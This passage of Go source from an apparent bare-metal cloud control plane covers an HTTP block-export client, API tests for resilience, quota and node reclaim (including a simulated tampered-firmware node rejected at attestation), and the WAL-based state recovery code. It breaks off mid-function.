	err := c.do(ctx, "GET", "/images/"+url.PathEscape(name)+"/bootinfo", nil, &out)
	if err != nil {
		return nil, err
	}
	return &out, nil
}

// exportTransport moves blockdev wire-protocol frames to a remote
// export over HTTP — the iSCSI session of the diskless boot path.
type exportTransport struct {
	c    *Client
	node string
}

// RoundTrip implements blockdev.Transport.
func (t *exportTransport) RoundTrip(req []byte) ([]byte, error) {
	hreq, err := http.NewRequest("POST", t.c.Base+"/exports/"+url.PathEscape(t.node)+"/io", bytes.NewReader(req))
	if err != nil {
		return nil, err
	}
	hreq.Header.Set("Content-Type", "application/octet-stream")
	resp, err := t.c.HTTP.Do(hreq)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	if resp.StatusCode >= 400 {
		msg, _ := io.ReadAll(resp.Body)
		if sentinel := sentinelFor(resp); sentinel != nil {
			return nil, fmt.Errorf("%w: export io %s: %s", sentinel, t.node, bytes.TrimSpace(msg))
		}
		return nil, fmt.Errorf("bmi: export io %s: %s: %s", t.node, resp.Status, bytes.TrimSpace(msg))
	}
	return io.ReadAll(resp.Body)
}

// ExportForBoot creates the node's boot target on the server and
// returns an Export whose Target proxies block I/O over HTTP, so the
// caller assembles exactly the same transport/encryption stack as for
// an in-process export.
func (c *Client) ExportForBoot(ctx context.Context, node, image string, cow bool) (*Export, error) {
	err := c.do(ctx, "PUT", "/exports/"+url.PathEscape(node), map[string]interface{}{"Image": image, "Cow": cow}, nil)
	if err != nil {
		return nil, err
	}
	// No read-ahead here: the caller's own block client (the node's
	// NBD initiator) decides the read-ahead policy, and a second cache
	// below it would only duplicate prefetches over the wire.
	dev, err := blockdev.NewClient(&exportTransport{c: c, node: node}, 0)
	if err != nil {
		// The export exists server-side but is unusable; tear it down.
		_ = c.Unexport(context.Background(), node, "")
		return nil, err
	}
	return &Export{Node: node, Image: image, Target: blockdev.NewTarget(dev)}, nil
}

// Unexport tears down a node's boot target, optionally persisting its
// CoW state as a new image.
func (c *Client) Unexport(ctx context.Context, node, saveAs string) error {
	path := "/exports/" + url.PathEscape(node)
	if saveAs != "" {
		path += "?save-as=" + url.QueryEscape(saveAs)
	}
	return c.do(ctx, "DELETE", path, nil, nil)
}
