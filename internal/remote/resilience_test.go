package remote

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"testing"
	"time"

	"bolted/internal/core"
	"bolted/internal/fault"
	"bolted/internal/firmware"
)

// TestV1HealthAndDegradedMode: /v1/health reports the breaker snapshot
// both ways — healthy and degraded — and a degraded acquire comes back
// over the wire as the typed error (503 + Retry-After rebuilt into a
// *core.DegradedError the caller can errors.Is / errors.As).
func TestV1HealthAndDegradedMode(t *testing.T) {
	cloud, _, cli := startV1Server(t, 2)
	ctx := context.Background()

	inj := fault.New(3)
	defer inj.Close()
	cloud.HIL = fault.WrapHIL(cloud.HIL, inj)
	if err := cloud.EnableResilience(core.ResiliencePolicy{
		MaxAttempts:      1,
		RetryBackoff:     time.Millisecond,
		BreakerThreshold: 2,
		BreakerCooldown:  10 * time.Second, // stays open for the whole test
	}); err != nil {
		t.Fatal(err)
	}
	if _, err := cli.CreateEnclave(ctx, "tenant", "bob"); err != nil {
		t.Fatal(err)
	}

	h, err := cli.Health(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if h.Degraded || len(h.Backends) != len(core.ResilientBackends) {
		t.Fatalf("healthy snapshot = %+v", h)
	}
	for b, bh := range h.Backends {
		if bh.State != core.BreakerClosed {
			t.Fatalf("backend %s state = %s", b, bh.State)
		}
	}

	// HIL outage trips its breaker.
	inj.Set("hil", fault.Profile{ErrorRate: 1})
	for i := 0; i < 2; i++ {
		if _, err := cloud.HIL.FreeNodes(); err == nil {
			t.Fatalf("outage call %d succeeded", i)
		}
	}

	h, err = cli.Health(ctx)
	if err != nil {
		t.Fatal(err) // /health must answer even while degraded
	}
	if !h.Degraded || h.Backends[core.BackendHIL].State != core.BreakerOpen {
		t.Fatalf("degraded snapshot = %+v", h)
	}

	// New work is refused fast with the typed error across the wire.
	_, err = cli.Acquire(ctx, "tenant", "fedora28", 1)
	if !errors.Is(err, core.ErrDegraded) {
		t.Fatalf("degraded acquire = %v, want ErrDegraded", err)
	}
	var de *core.DegradedError
	if !errors.As(err, &de) || de.Backend != core.BackendHIL || de.RetryAfter < time.Second {
		t.Fatalf("degraded error detail = %+v (from %v)", de, err)
	}
}

// TestV1ResilienceRoundTrip: the cloud-wide policy and per-enclave
// overrides survive a GET/PUT round trip, zero fields take server-side
// defaults, and an enclave without an override inherits cloud-wide.
func TestV1ResilienceRoundTrip(t *testing.T) {
	_, _, cli := startV1Server(t, 2)
	ctx := context.Background()

	pol, err := cli.GetResilience(ctx, "")
	if err != nil {
		t.Fatal(err)
	}
	def := core.DefaultResiliencePolicy()
	if pol.MaxAttempts != def.MaxAttempts || pol.BreakerThreshold != def.BreakerThreshold {
		t.Fatalf("initial policy = %+v, want defaults %+v", pol, def)
	}

	applied, err := cli.SetResilience(ctx, "", ResiliencePolicyInfo{
		MaxAttempts:   9,
		PhaseDeadline: 90 * time.Second,
	})
	if err != nil {
		t.Fatal(err)
	}
	if applied.MaxAttempts != 9 || applied.PhaseDeadline != 90*time.Second {
		t.Fatalf("applied policy = %+v", applied)
	}
	// Unset fields came back defaults-filled, not zero.
	if applied.RetryBackoff != def.RetryBackoff || applied.BreakerThreshold != def.BreakerThreshold {
		t.Fatalf("defaults not filled: %+v", applied)
	}

	// A fresh enclave inherits the cloud-wide policy until it overrides.
	if _, err := cli.CreateEnclave(ctx, "tenant", "bob"); err != nil {
		t.Fatal(err)
	}
	pol, err = cli.GetResilience(ctx, "tenant")
	if err != nil {
		t.Fatal(err)
	}
	if pol.MaxAttempts != 9 || pol.PhaseDeadline != 90*time.Second {
		t.Fatalf("inherited policy = %+v", pol)
	}
	if _, err := cli.SetResilience(ctx, "tenant", ResiliencePolicyInfo{
		MaxAttempts:   2,
		PhaseDeadline: 5 * time.Second,
	}); err != nil {
		t.Fatal(err)
	}
	pol, err = cli.GetResilience(ctx, "tenant")
	if err != nil {
		t.Fatal(err)
	}
	if pol.MaxAttempts != 2 || pol.PhaseDeadline != 5*time.Second {
		t.Fatalf("override = %+v", pol)
	}
	// The override is scoped: cloud-wide stays as set.
	pol, err = cli.GetResilience(ctx, "")
	if err != nil {
		t.Fatal(err)
	}
	if pol.MaxAttempts != 9 {
		t.Fatalf("cloud-wide policy changed by enclave override: %+v", pol)
	}

	if _, err := cli.GetResilience(ctx, "ghost"); !errors.Is(err, core.ErrNotFound) {
		t.Fatalf("unknown enclave = %v, want ErrNotFound", err)
	}
	// An invalid policy is rejected with the invalid-argument mapping.
	if _, err := cli.SetResilience(ctx, "", ResiliencePolicyInfo{MaxAttempts: -1}); !errors.Is(err, core.ErrInvalid) {
		t.Fatalf("invalid policy = %v, want ErrInvalid", err)
	}
}

// TestV1ReclaimNode: the operator reclaim verb over the wire — a node
// rejected at attestation is scrubbed back to the free pool; reclaiming
// anything not in the rejected pool maps to ErrConflict.
func TestV1ReclaimNode(t *testing.T) {
	cloud, _, cli := startV1Server(t, 2)
	ctx := context.Background()

	m, err := cloud.Machine("node01")
	if err != nil {
		t.Fatal(err)
	}
	evil := firmware.BuildLinuxBoot("heads-v1.0", []byte("implanted heads"))
	m.ReflashFirmware(firmware.NewLinuxBoot(evil, "m620"))

	if _, err := cli.CreateEnclave(ctx, "tenant", "bob"); err != nil {
		t.Fatal(err)
	}
	op, err := cli.Acquire(ctx, "tenant", "fedora28", 2)
	if err != nil {
		t.Fatal(err)
	}
	final, err := cli.WaitOperation(ctx, op.ID)
	if err != nil {
		t.Fatal(err)
	}
	if final.Result == nil || len(final.Result.Failed) != 1 || final.Result.Failed[0].Node != "node01" {
		t.Fatalf("result = %+v", final.Result)
	}
	if _, ok := cloud.Rejected()["node01"]; !ok {
		t.Fatalf("rejected pool = %v", cloud.Rejected())
	}

	if err := cli.ReclaimNode(ctx, "tenant", "node01"); err != nil {
		t.Fatal(err)
	}
	if rej := cloud.Rejected(); len(rej) != 0 {
		t.Fatalf("rejected pool after reclaim = %v", rej)
	}
	// Idempotence is deliberately absent: the node is free now, and a
	// second reclaim is a conflict, same as reclaiming a live member.
	if err := cli.ReclaimNode(ctx, "tenant", "node01"); !errors.Is(err, core.ErrConflict) {
		t.Fatalf("second reclaim = %v, want ErrConflict", err)
	}
	if err := cli.ReclaimNode(ctx, "tenant", "node00"); !errors.Is(err, core.ErrConflict) {
		t.Fatalf("reclaim of live member = %v, want ErrConflict", err)
	}
	if err := cli.ReclaimNode(ctx, "ghost", "node01"); !errors.Is(err, core.ErrNotFound) {
		t.Fatalf("reclaim in unknown enclave = %v, want ErrNotFound", err)
	}
}

// TestV1QuotaBackoffCancelsPromptly (satellite): a client parked in the
// 429 Retry-After backoff must honor context cancellation immediately —
// not sleep out the server's hint.
func TestV1QuotaBackoffCancelsPromptly(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Retry-After", "30")
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusTooManyRequests)
		fmt.Fprintf(w, `{"error":{"code":%q,"message":"core: tenant over quota: node budget spent"}}`, codeExhausted)
	}))
	defer srv.Close()
	cli := NewV1Client(srv.URL)

	ctx, cancel := context.WithCancel(context.Background())
	go func() {
		time.Sleep(100 * time.Millisecond)
		cancel()
	}()
	start := time.Now()
	_, err := cli.ListEnclaves(ctx)
	elapsed := time.Since(start)
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled in the chain", err)
	}
	var qe *core.QuotaError
	if !errors.As(err, &qe) {
		t.Fatalf("err = %v, want the QuotaError preserved for context", err)
	}
	if elapsed > 2*time.Second {
		t.Fatalf("cancel took %v — the client slept out the Retry-After hint", elapsed)
	}
}
