package core

import (
	"context"
	"encoding/json"
	"fmt"
	"sort"
	"strings"
	"sync"
	"time"

	"bolted/internal/keylime"
	"bolted/internal/obs"
	"bolted/internal/store"
)

// This file is the durable half of the control plane: every Manager
// mutation — enclave create/delete, quotas, pool and guard policies,
// operation begin/end, incident updates, revocations, and every lifecycle
// journal event — commits to a store.Store before it is acknowledged, and
// Recover rebuilds a Manager from the snapshot+WAL after a restart.
//
// Recovery follows the paper's §5/§7.4 primitive: a node's trustworthiness
// is re-established by a fresh attestation quote, never by trusting
// recorded state. Replaying the log tells us which nodes the control plane
// *held*; whether it may keep them is decided by re-running the acquisition
// pipeline (fresh-nonce re-quote against the whitelist) per node. Distrust,
// by contrast, does survive a restart verbatim: recorded Rejected and
// Quarantined nodes come back rejected and quarantined with no new quote.

// Record payloads. The store treats these as opaque JSON; core owns the
// schema so store never imports core.

type enclaveRecord struct {
	Name    string  `json:"name"`
	Profile Profile `json:"profile"`
}

type eventRecord struct {
	Seq    uint64    `json:"seq"`
	At     time.Time `json:"at"`
	Kind   EventKind `json:"kind"`
	Node   string    `json:"node,omitempty"`
	Detail string    `json:"detail,omitempty"`
}

func toEventRecord(ev Event) eventRecord {
	return eventRecord{Seq: ev.Seq, At: ev.At, Kind: ev.Kind, Node: ev.Node, Detail: ev.Detail}
}

func (r eventRecord) event() Event {
	return Event{Seq: r.Seq, At: r.At, Kind: r.Kind, Node: r.Node, Detail: r.Detail}
}

type journalEventRecord struct {
	Enclave string `json:"enclave"`
	eventRecord
}

type quotaRecord struct {
	Tenant string      `json:"tenant"`
	Quota  TenantQuota `json:"quota"`
}

type tenantRecord struct {
	Tenant string `json:"tenant"`
}

type poolRecord struct {
	Enclave string     `json:"enclave"`
	Policy  PoolPolicy `json:"policy"`
}

type enclaveNameRecord struct {
	Enclave string `json:"enclave"`
}

type guardRecord struct {
	Enclave string          `json:"enclave"`
	Policy  json.RawMessage `json:"policy,omitempty"`
}

type opStartedRecord struct {
	ID      string    `json:"id"`
	Enclave string    `json:"enclave"`
	Image   string    `json:"image"`
	Count   int       `json:"count"`
	Created time.Time `json:"created"`
	IdemKey string    `json:"idem_key,omitempty"`
}

type opFinishedRecord struct {
	ID       string    `json:"id"`
	Phase    OpPhase   `json:"phase"`
	Error    string    `json:"error,omitempty"`
	Finished time.Time `json:"finished"`
}

type revocationRecord struct {
	Enclave string    `json:"enclave"`
	UUID    string    `json:"uuid"`
	Reason  string    `json:"reason"`
	At      time.Time `json:"at"`
}

// Snapshot schema: the full control-plane state a Compact captures, so a
// restart replays only the WAL tail written since.

type enclaveSnapshot struct {
	Name     string          `json:"name"`
	Profile  Profile         `json:"profile"`
	Events   []eventRecord   `json:"events,omitempty"`
	WatchSeq int             `json:"watch_seq,omitempty"`
	Pool     *PoolPolicy     `json:"pool,omitempty"`
	Guard    json.RawMessage `json:"guard,omitempty"`
}

type opSnapshot struct {
	opStartedRecord
	Terminal bool      `json:"terminal,omitempty"`
	Phase    OpPhase   `json:"phase,omitempty"`
	Error    string    `json:"error,omitempty"`
	Finished time.Time `json:"finished,omitzero"`
}

type revFeedSnapshot struct {
	Base   int                       `json:"base"`
	Events []keylime.RevocationEvent `json:"events,omitempty"`
}

type managerSnapshot struct {
	Enclaves    []enclaveSnapshot          `json:"enclaves,omitempty"`
	Quotas      map[string]TenantQuota     `json:"quotas,omitempty"`
	Ops         []opSnapshot               `json:"ops,omitempty"`
	OpSeq       int                        `json:"op_seq,omitempty"`
	Idem        map[string]string          `json:"idem,omitempty"`
	Incidents   []IncidentStatus           `json:"incidents,omitempty"`
	IncSeq      int                        `json:"inc_seq,omitempty"`
	IncFeed     []IncidentStatus           `json:"inc_feed,omitempty"`
	IncFeedBase int                        `json:"inc_feed_base,omitempty"`
	RevFeeds    map[string]revFeedSnapshot `json:"rev_feeds,omitempty"`
}

// PolicyReporter is implemented by guards whose policy should survive a
// restart (internal/guard's Guard). AttachGuard persists the reported
// policy; Recover hands it back via RecoveredGuardPolicies so the guard
// package can re-enable without core importing it.
type PolicyReporter interface {
	PolicyJSON() (json.RawMessage, error)
}

// NewManagerWithStore builds a control plane that commits every mutation to
// st before acknowledging it. A nil store behaves like NewManager (no
// durability). The store is used as-is: call Recover before serving if it
// holds prior state.
func NewManagerWithStore(c *Cloud, st store.Store) *Manager {
	m := NewManager(c)
	if st != nil {
		m.store = st
		// A store that can instrument itself (store.File) records WAL
		// and snapshot latencies into the cloud's registry. Attach the
		// registry (Cloud.SetMetrics) before building the manager.
		if si, ok := st.(interface{ SetMetrics(*obs.Registry) }); ok {
			si.SetMetrics(c.Metrics())
		}
	}
	return m
}

// appendRecord marshals payload and commits one record. The nil return is
// the commit point: callers acknowledge the mutation only after it.
func (m *Manager) appendRecord(kind store.Kind, payload any) error {
	data, err := json.Marshal(payload)
	if err != nil {
		return fmt.Errorf("core: encode %s record: %w", kind, err)
	}
	return m.store.Append(store.Record{Kind: kind, At: time.Now(), Data: data})
}

// attachJournalPersist routes an enclave's journal through the store:
// every lifecycle event is staged (in journal order, under the journal
// lock) before it is fanned out to watchers and streams. Events use the
// buffered append — one fsync at the next acknowledgment boundary (an
// operation's op-finished record, or SyncStore before a /v1 feed read)
// covers the whole run of events, instead of one fsync per lifecycle
// transition. A client can still never hold a feed cursor for an event
// that would not survive a crash: the /v1 feed handlers flush before
// serving.
func (m *Manager) attachJournalPersist(name string, e *Enclave) {
	e.journal.setPersist(func(ev Event) error {
		data, err := json.Marshal(journalEventRecord{Enclave: name, eventRecord: toEventRecord(ev)})
		if err != nil {
			return fmt.Errorf("core: encode %s record: %w", store.KindJournalEvent, err)
		}
		return m.store.AppendBuffered(store.Record{Kind: store.KindJournalEvent, At: time.Now(), Data: data})
	})
}

// SyncStore flushes buffered journal-event records to disk. The /v1 feed
// handlers call it before serving a batch so every event a tenant reads
// (and every cursor it hands back) names durable history.
func (m *Manager) SyncStore() error { return m.store.Sync() }

// RecoverReport summarizes what Recover did, node by node.
type RecoverReport struct {
	// Enclaves is how many enclaves were rebuilt.
	Enclaves int
	// Readopted lists nodes re-quoted back into their recorded state
	// ("enclave/node"), Allocated members and Warm standbys alike.
	Readopted []string
	// Rejected lists recorded nodes whose fresh re-quote failed; they sit
	// in the provider's rejected pool.
	Rejected []string
	// Quarantined lists nodes restored directly into quarantine (distrust
	// needs no fresh quote).
	Quarantined []string
	// Interrupted lists operations that were in flight at the crash, now
	// terminal with phase OpInterrupted.
	Interrupted []string
	// Released lists recorded in-flight nodes (mid-pipeline at the crash)
	// released back to the free pool.
	Released []string
}

// replayNode is one node's state as derived from the enclave's journal.
type replayNode struct {
	state  NodeState
	image  string // tenant image, for member re-adoption
	detail string // last transition detail (quarantine/rejection reason)
}

// stateReserved marks a node between EvAllocated and its first lifecycle
// transition — held, but not yet anywhere in Figure 1. Replay-internal.
const stateReserved NodeState = "reserved"

// replayEnclave accumulates one enclave's recorded state during replay.
type replayEnclave struct {
	name      string
	profile   Profile
	events    []Event
	watchSeq  int
	pool      *PoolPolicy
	guard     json.RawMessage
	nodes     map[string]*replayNode
	lastImage string // image of the most recent acquisition, WAL order
}

func (re *replayEnclave) node(name string) *replayNode {
	if re.nodes == nil {
		re.nodes = make(map[string]*replayNode)
	}
	n, ok := re.nodes[name]
	if !ok {
		n = &replayNode{}
		re.nodes[name] = n
	}
	return n
}

// applyEvent folds one journal event into the node-state derivation.
func (re *replayEnclave) applyEvent(ev Event) {
	re.events = append(re.events, ev)
	if ev.Node == "" {
		return
	}
	switch ev.Kind {
	case EvAllocated:
		n := re.node(ev.Node)
		n.state = stateReserved
		n.detail = ev.Detail
		if img, ok := strings.CutPrefix(ev.Detail, "image="); ok {
			n.image = img
		} else if img, ok := strings.CutPrefix(ev.Detail, "readopt image="); ok {
			n.image = img
		}
	case EvAirlocked, EvBooting, EvAttesting, EvProvisioned:
		re.node(ev.Node).state = map[EventKind]NodeState{
			EvAirlocked:   StateAirlocked,
			EvBooting:     StateBooting,
			EvAttesting:   StateAttesting,
			EvProvisioned: StateProvisioned,
		}[ev.Kind]
	case EvWarm:
		re.node(ev.Node).state = StateWarm
	case EvJoined:
		n := re.node(ev.Node)
		n.state = StateAllocated
		if n.image == "" {
			n.image = re.lastImage
		}
	case EvRejected:
		n := re.node(ev.Node)
		n.state = StateRejected
		n.detail = ev.Detail
	case EvQuarantined:
		n := re.node(ev.Node)
		n.state = StateQuarantined
		n.detail = ev.Detail
	case EvReleased:
		delete(re.nodes, ev.Node)
	}
}

// replayState is the full control plane as derived from snapshot+WAL.
type replayState struct {
	order    []string // enclave creation order
	enclaves map[string]*replayEnclave
	quotas   map[string]TenantQuota
	ops      []*opSnapshot
	opByID   map[string]*opSnapshot
	opSeq    int
	idem     map[string]string
	incident map[string]IncidentStatus // latest status per incident
	incOrder []string
	incSeq   int
	incFeed  []IncidentStatus
	incBase  int
	revFeeds map[string]*revFeedSnapshot
}

func newReplayState() *replayState {
	return &replayState{
		enclaves: make(map[string]*replayEnclave),
		quotas:   make(map[string]TenantQuota),
		opByID:   make(map[string]*opSnapshot),
		idem:     make(map[string]string),
		incident: make(map[string]IncidentStatus),
		revFeeds: make(map[string]*revFeedSnapshot),
	}
}

func (rs *replayState) enclave(name string) *replayEnclave {
	re, ok := rs.enclaves[name]
	if !ok {
		re = &replayEnclave{name: name}
		rs.enclaves[name] = re
		rs.order = append(rs.order, name)
	}
	return re
}

func (rs *replayState) dropEnclave(name string) {
	delete(rs.enclaves, name)
	for i, n := range rs.order {
		if n == name {
			rs.order = append(rs.order[:i:i], rs.order[i+1:]...)
			break
		}
	}
}

func (rs *replayState) loadSnapshot(raw json.RawMessage) error {
	var snap managerSnapshot
	if err := json.Unmarshal(raw, &snap); err != nil {
		return fmt.Errorf("core: decode snapshot: %w", err)
	}
	for _, es := range snap.Enclaves {
		re := rs.enclave(es.Name)
		re.profile = es.Profile
		re.watchSeq = es.WatchSeq
		re.pool = es.Pool
		re.guard = es.Guard
		for _, er := range es.Events {
			re.applyEvent(er.event())
		}
	}
	for t, q := range snap.Quotas {
		rs.quotas[t] = q
	}
	for _, os := range snap.Ops {
		cp := os
		rs.ops = append(rs.ops, &cp)
		rs.opByID[cp.ID] = &cp
		if cp.IdemKey != "" {
			rs.idem[cp.IdemKey] = cp.ID
		}
		if re, ok := rs.enclaves[cp.Enclave]; ok && cp.Image != "" {
			re.lastImage = cp.Image
		}
	}
	rs.opSeq = snap.OpSeq
	for k, id := range snap.Idem {
		rs.idem[k] = id
	}
	for _, st := range snap.Incidents {
		rs.incident[st.ID] = st
		rs.incOrder = append(rs.incOrder, st.ID)
	}
	rs.incSeq = snap.IncSeq
	rs.incFeed = append(rs.incFeed, snap.IncFeed...)
	rs.incBase = snap.IncFeedBase
	for name, f := range snap.RevFeeds {
		cp := f
		rs.revFeeds[name] = &cp
	}
	return nil
}

func (rs *replayState) apply(rec store.Record) error {
	switch rec.Kind {
	case store.KindEnclaveCreated:
		var r enclaveRecord
		if err := json.Unmarshal(rec.Data, &r); err != nil {
			return err
		}
		re := rs.enclave(r.Name)
		re.profile = r.Profile
	case store.KindEnclaveDeleted:
		var r enclaveNameRecord
		if err := json.Unmarshal(rec.Data, &r); err != nil {
			return err
		}
		rs.dropEnclave(r.Enclave)
		delete(rs.revFeeds, r.Enclave)
	case store.KindJournalEvent:
		var r journalEventRecord
		if err := json.Unmarshal(rec.Data, &r); err != nil {
			return err
		}
		if re, ok := rs.enclaves[r.Enclave]; ok {
			re.applyEvent(r.event())
		}
	case store.KindQuotaSet:
		var r quotaRecord
		if err := json.Unmarshal(rec.Data, &r); err != nil {
			return err
		}
		rs.quotas[r.Tenant] = r.Quota
	case store.KindQuotaDeleted:
		var r tenantRecord
		if err := json.Unmarshal(rec.Data, &r); err != nil {
			return err
		}
		delete(rs.quotas, r.Tenant)
	case store.KindPoolConfigured:
		var r poolRecord
		if err := json.Unmarshal(rec.Data, &r); err != nil {
			return err
		}
		if re, ok := rs.enclaves[r.Enclave]; ok {
			p := r.Policy
			re.pool = &p
		}
	case store.KindPoolDetached:
		var r enclaveNameRecord
		if err := json.Unmarshal(rec.Data, &r); err != nil {
			return err
		}
		if re, ok := rs.enclaves[r.Enclave]; ok {
			re.pool = nil
		}
	case store.KindGuardEnabled:
		var r guardRecord
		if err := json.Unmarshal(rec.Data, &r); err != nil {
			return err
		}
		if re, ok := rs.enclaves[r.Enclave]; ok {
			re.guard = r.Policy
		}
	case store.KindGuardDetached:
		var r enclaveNameRecord
		if err := json.Unmarshal(rec.Data, &r); err != nil {
			return err
		}
		if re, ok := rs.enclaves[r.Enclave]; ok {
			re.guard = nil
		}
	case store.KindOpStarted:
		var r opStartedRecord
		if err := json.Unmarshal(rec.Data, &r); err != nil {
			return err
		}
		os := &opSnapshot{opStartedRecord: r}
		rs.ops = append(rs.ops, os)
		rs.opByID[r.ID] = os
		if r.IdemKey != "" {
			rs.idem[r.IdemKey] = r.ID
		}
		var n int
		if _, err := fmt.Sscanf(r.ID, "op-%d", &n); err == nil && n > rs.opSeq {
			rs.opSeq = n
		}
		if re, ok := rs.enclaves[r.Enclave]; ok && r.Image != "" {
			re.lastImage = r.Image
		}
	case store.KindOpFinished:
		var r opFinishedRecord
		if err := json.Unmarshal(rec.Data, &r); err != nil {
			return err
		}
		if os, ok := rs.opByID[r.ID]; ok {
			os.Terminal = true
			os.Phase = r.Phase
			os.Error = r.Error
			os.Finished = r.Finished
		}
	case store.KindIncidentUpdate:
		var st IncidentStatus
		if err := json.Unmarshal(rec.Data, &st); err != nil {
			return err
		}
		if _, ok := rs.incident[st.ID]; !ok {
			rs.incOrder = append(rs.incOrder, st.ID)
		}
		rs.incident[st.ID] = st
		rs.incFeed = append(rs.incFeed, st)
		var n int
		if _, err := fmt.Sscanf(st.ID, "inc-%d", &n); err == nil && n > rs.incSeq {
			rs.incSeq = n
		}
	case store.KindRevocation:
		var r revocationRecord
		if err := json.Unmarshal(rec.Data, &r); err != nil {
			return err
		}
		f, ok := rs.revFeeds[r.Enclave]
		if !ok {
			f = &revFeedSnapshot{}
			rs.revFeeds[r.Enclave] = f
		}
		f.Events = append(f.Events, keylime.RevocationEvent{UUID: r.UUID, Reason: r.Reason, At: r.At})
	}
	return nil
}

// Recover rebuilds the control plane from the store: load snapshot+WAL,
// re-create every recorded enclave over the (fresh) cloud, restore journals
// with their sequence numbers so feed cursors survive, restore quotas,
// operations (in-flight ones become OpInterrupted), incidents and
// revocation feeds, restart warm pools from their persisted policies — and
// then re-adopt recorded nodes by re-quoting them into their recorded
// states. It must run before the manager serves traffic.
func (m *Manager) Recover(ctx context.Context) (*RecoverReport, error) {
	t0 := time.Now()
	snap, recs, err := m.store.Load()
	if err != nil {
		return nil, fmt.Errorf("core: load store: %w", err)
	}
	rs := newReplayState()
	if snap != nil {
		if err := rs.loadSnapshot(snap.State); err != nil {
			return nil, err
		}
	}
	for _, rec := range recs {
		if err := rs.apply(rec); err != nil {
			return nil, fmt.Errorf("core: replay %s record: %w", rec.Kind, err)
		}
	}

	rep := &RecoverReport{}

	// Control-plane scalars and registries first, under one lock.
	m.mu.Lock()
	for t, q := range rs.quotas {
		m.quotas[t] = q
	}
	if rs.opSeq > m.opSeq {
		m.opSeq = rs.opSeq
	}
	for k, id := range rs.idem {
		m.idem[k] = id
	}
	for _, os := range rs.ops {
		phase, errMsg, finished := os.Phase, os.Error, os.Finished
		if !os.Terminal {
			phase = OpInterrupted
			errMsg = "operation interrupted by control-plane restart; partially-held nodes were released"
			finished = time.Now()
			rep.Interrupted = append(rep.Interrupted, os.ID)
		}
		op := newRestoredOperation(os.ID, os.Enclave, os.Image, os.Count, os.Created, phase, errMsg, finished)
		var n int
		fmt.Sscanf(os.ID, "op-%d", &n)
		op.seq = n
		m.ops[op.ID] = op
		m.byencl[os.Enclave] = append(m.byencl[os.Enclave], op)
	}
	for _, id := range rs.incOrder {
		st := rs.incident[id]
		inc := restoreIncident(st, m.noteIncidentUpdate)
		m.incidents[id] = inc
		m.incOrder = append(m.incOrder, inc)
	}
	if rs.incSeq > m.incSeq {
		m.incSeq = rs.incSeq
	}
	m.incFeed = append(m.incFeed, rs.incFeed...)
	m.incFeedBase = rs.incBase
	if over := len(m.incFeed) - maxIncidentFeed; over > 0 {
		m.incFeed = append([]IncidentStatus(nil), m.incFeed[over:]...)
		m.incFeedBase += over
	}
	for name, f := range rs.revFeeds {
		m.revFeeds[name] = &revFeed{
			events: append([]keylime.RevocationEvent(nil), f.Events...),
			base:   f.Base,
			notify: make(chan struct{}),
		}
		if over := len(m.revFeeds[name].events) - maxRevFeed; over > 0 {
			m.revFeeds[name].events = append([]keylime.RevocationEvent(nil), m.revFeeds[name].events[over:]...)
			m.revFeeds[name].base += over
		}
	}
	m.mu.Unlock()

	// An incident whose response was in flight at the crash has lost its
	// responder (the guard restarts from policy, but its queued work died
	// with the process): close it explicitly rather than leaving a
	// never-terminal incident.
	for _, inc := range m.ListIncidents("") {
		if !inc.State().Terminal() {
			inc.Close(IncidentUnhandled, "control-plane restart interrupted the response")
		}
	}

	// Rebuild enclaves in creation order, then re-adopt their nodes.
	for _, name := range rs.order {
		re := rs.enclaves[name]
		e, err := m.restoreEnclave(name, re)
		if err != nil {
			return nil, fmt.Errorf("core: restore enclave %q: %w", name, err)
		}
		rep.Enclaves++
		m.readoptNodes(ctx, e, re, rep)
		// Re-adoption done (recorded standbys parked): let the refiller
		// top up or shed toward the restored target.
		e.resumePool()
	}

	sort.Strings(rep.Readopted)
	sort.Strings(rep.Rejected)
	sort.Strings(rep.Quarantined)
	sort.Strings(rep.Released)
	// Recovery time includes the re-quote of every recorded node — the
	// dominant term, and the one the paper's §7.4 restart claim rests on.
	m.cloud.metrics.recoverySeconds.Set(time.Since(t0).Seconds())
	m.cloud.metrics.recoveredEnclave.Set(float64(rep.Enclaves))
	return rep, nil
}

// restoreEnclave re-creates one recorded enclave over the fresh cloud:
// project, network, verifier, restored journal (events, seqs, watcher-id
// seed) with the persist hook re-attached, warm pool from its persisted
// policy, and the recovered guard policy parked for RecoveredGuardPolicies.
func (m *Manager) restoreEnclave(name string, re *replayEnclave) (*Enclave, error) {
	e, err := NewEnclave(m.cloud, name, re.profile)
	if err != nil {
		return nil, err
	}
	// Watcher-id seed: at least the checkpointed value, floored at the
	// event count — registrations never outnumber events, so an id handed
	// out before the crash can never be reissued even when only the WAL
	// tail (no checkpoint) survived.
	watchSeq := re.watchSeq
	if n := len(re.events); n > watchSeq {
		watchSeq = n
	}
	e.journal.restore(re.events, watchSeq)
	m.attachJournalPersist(name, e)
	m.mu.Lock()
	m.enclaves[name] = e
	if v := e.Verifier(); v != nil {
		m.revUnsubs[name] = v.Subscribe(func(ev keylime.RevocationEvent) {
			m.noteRevocation(name, ev)
		})
	}
	if re.guard != nil {
		m.guardPolicies[name] = append(json.RawMessage(nil), re.guard...)
	}
	m.mu.Unlock()
	if re.pool != nil {
		// Start the pool held: its refiller must not race readoptNodes for
		// the very nodes the WAL records as this pool's standbys. Recover
		// resumes it once re-adoption has parked them.
		if err := e.configurePool(*re.pool, true); err != nil {
			return nil, err
		}
	}
	return e, nil
}

// readoptNodes re-establishes every recorded node of one enclave:
//
//   - Allocated members and Warm standbys are re-adopted by re-running the
//     acquisition pipeline — fresh-nonce re-quote against the whitelist; a
//     node that fails lands in the rejected pool exactly like a cold-path
//     phase failure.
//   - Quarantined and Rejected nodes are restored as-is: distrust survives
//     a restart without a new quote.
//   - Nodes recorded mid-pipeline (reserved/airlocked/booting/attesting/
//     provisioned) belonged to an operation that is now OpInterrupted;
//     they are released (journalled), never silently kept.
func (m *Manager) readoptNodes(ctx context.Context, e *Enclave, re *replayEnclave, rep *RecoverReport) {
	var (
		mu  sync.Mutex
		wg  sync.WaitGroup
		sem = make(chan struct{}, DefaultBatchParallelism)
	)
